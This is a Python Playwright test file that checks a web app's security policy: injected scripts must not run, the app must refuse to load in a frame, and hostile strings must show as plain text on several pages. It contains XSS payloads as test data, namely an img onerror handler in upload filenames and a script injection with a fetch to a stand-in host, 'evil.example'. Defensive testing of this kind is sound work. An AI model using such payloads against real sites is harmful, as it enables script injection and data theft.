"""The browser obeys the app's policy, and hostile texts stay texts on every page."""

import json
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.desk import Desk
from tests.e2e.server import Server
from tests.support.hostile_texts import EVIL, HOSTILE_TEXTS
from tests.support.result_lines import answered, failed, input_line, jsonl

VIEWS = ("Problems", "Review", "Quality", "Charts", "Compare")
_INJECT = """() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 2'>");
    return fetch("http://evil.example/").then(() => "sent", () => "blocked");
}"""


@pytest.fixture
def guarded(desk: Desk) -> Iterator[Desk]:
    """A tab that runs no foreign script and contacts no other host during the test."""
    asked: set[str] = set()
    desk.page.on("request", lambda request: asked.add(urlsplit(request.url).netloc))
    yield desk
    assert desk.page.evaluate("window.ran") is None
    assert asked - {""} == {urlsplit(desk.url).netloc}
    assert desk.page.locator(f'[src*="{EVIL}"], [href*="{EVIL}"], iframe, object, embed').count() == 0


def open_folds(desk: Desk) -> None:
    """Opens every fold of the page."""
    for fold in desk.page.get_by_test_id("stExpander").locator("details:not([open]) > summary").all():
        if fold.is_visible():
            fold.click()
    desk.settle()


def test_an_injected_script_does_not_run_and_reaches_nobody(browser: Browser, server: Server) -> None:
    desk = Desk(browser.new_page(), server.url)
    desk.open()
    assert desk.page.evaluate(_INJECT) == "blocked"
    desk.settle()
    assert desk.page.evaluate("window.ran") is None
    desk.page.close()


def test_no_page_shows_the_app_in_a_frame(browser: Browser, server: Server) -> None:
    page = browser.new_page()
    page.set_content(f"<iframe src='{server.url}'></iframe>")
    frame = page.frame_locator("iframe")
    expect(frame.get_by_test_id("stApp")).to_have_count(0)
    assert "chrome-error" in page.frames[1].url
    page.close()


def test_hostile_texts_stay_texts_on_compose_and_batches(guarded: Desk) -> None:
    names = [f"{number} {text.replace('{', '').replace('}', '')}" for number, text in enumerate(HOSTILE_TEXTS)]
    rows = [dict(zip(names, HOSTILE_TEXTS, strict=True)), dict.fromkeys(names, "x")]
    guarded.open()
    guarded.upload("compose_file", ("<img src=x onerror=window.ran=0>.json", json.dumps(rows).encode()))
    guarded.fill("compose_model", HOSTILE_TEXTS[1])
    guarded.fill("compose_system", "\n".join(HOSTILE_TEXTS).replace("\0", ""))
    guarded.fill("compose_prompt", "".join(f"{{{{{name}}}}}" for name in names[:3]))
    guarded.open_advanced()
    open_folds(guarded)
    expect(guarded.page.get_by_test_id("stChatMessage").last).to_contain_text(HOSTILE_TEXTS[0])
    with guarded.run():
        guarded.page.get_by_role("button", name="Keep as it is").click()
    guarded.fill("compose_model", "<b>m</b>")
    guarded.fill("compose_system", HOSTILE_TEXTS[1])
    guarded.press("compose_send")
    expect(guarded.page.get_by_role("heading", level=1)).to_have_text("Batches")
    expect(guarded.page.get_by_test_id("stMain")).to_contain_text("<img src=x onerror=window.ran=0>")


def test_hostile_texts_stay_texts_on_check(guarded: Desk) -> None:
    lines = [{**input_line(text, text, text), "method": text, "url": text, text: text} for text in HOSTILE_TEXTS]
    guarded.open("/check")
    guarded.upload("check_file", ("<img src=x onerror=window.ran=0>.jsonl", jsonl(lines)))
    open_folds(guarded)
    expect(guarded.hook("check_line")).to_contain_text(HOSTILE_TEXTS[0])


def test_hostile_texts_stay_texts_on_results(guarded: Desk) -> None:
    answers = [answered(f"a{text}", text) for text in HOSTILE_TEXTS]
    errors = [failed(f"b{text}", text) for text in HOSTILE_TEXTS]
    sent = [input_line(f"{kind}{text}", text) for text in HOSTILE_TEXTS for kind in "ab"]
    guarded.open("/results")
    guarded.upload(
        "results_files",
        ("<img src=x onerror=window.ran=0>.jsonl", jsonl([*answers, *errors])),
        ("i.jsonl", jsonl(sent)),
    )
    expect(guarded.hook("results_ledger")).to_be_visible()
    assert guarded.count("Sent") == str(2 * len(HOSTILE_TEXTS))
    for view in VIEWS:
        guarded.view(view)
        open_folds(guarded)


def test_charts_are_drawn(guarded: Desk) -> None:
    guarded.open("/results")
    guarded.page.get_by_role("button", name="Look at an example").click()
    guarded.settle()
    guarded.view("Charts")
    charts = guarded.page.get_by_test_id("stVegaLiteChart")
    expect(charts.first.locator("canvas, svg").first).to_be_visible()
    expect(charts.locator(":scope:not(:has(canvas, svg))")).to_have_count(0)
